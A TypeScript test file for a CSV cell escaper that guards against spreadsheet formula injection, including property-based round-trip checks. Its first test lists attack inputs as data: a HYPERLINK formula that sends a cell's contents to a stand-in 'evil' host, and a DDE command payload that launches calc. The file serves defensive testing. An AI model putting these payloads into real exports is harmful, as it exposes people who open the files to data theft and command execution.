import fc from "fast-check";
import { describe, expect, it } from "vitest";
import { csvRows, escapeCsvCell, unescapeCsvCell } from "./escape-cell";

describe("CSV cell escaper", () => {
  it("writes every cell a spreadsheet would run as a formula as text", () => {
    for (const cell of [
      "=1+2",
      '=HYPERLINK("https://evil/?d="&B3,"详情")',
      "-1+cmd|' /C calc'!A0",
      "+86 138 0000 0000",
      "-5",
      "@SUM(A1)",
      "\t=1",
      "\r=1",
    ])
      expect(escapeCsvCell(cell)).toBe(`'${cell}`);
    for (const cell of ["周会", "13800000000", "a=b", "", " =1"])
      expect(escapeCsvCell(cell)).toBe(cell);
  });

  it("reads back exactly what it wrote, whatever the cell", () => {
    fc.assert(
      fc.property(fc.string(), (cell) => unescapeCsvCell(escapeCsvCell(cell)) === cell),
      { numRuns: 2000 },
    );
    fc.assert(
      fc.property(
        fc.constantFrom("'", "''", "=", "+", "-", "@", "\t", "\r", "'="),
        fc.string(),
        (head, rest) => unescapeCsvCell(escapeCsvCell(head + rest)) === head + rest,
      ),
    );
  });

  it("leaves a hand-typed apostrophe before ordinary text alone", () => {
    expect(unescapeCsvCell("'plain")).toBe("'plain");
  });

  it("escapes every cell of the rows it writes, numbers included", () => {
    expect(csvRows([["=1+2", -3, "ok"]])).toBe("'=1+2,'-3,ok\n");
  });
});
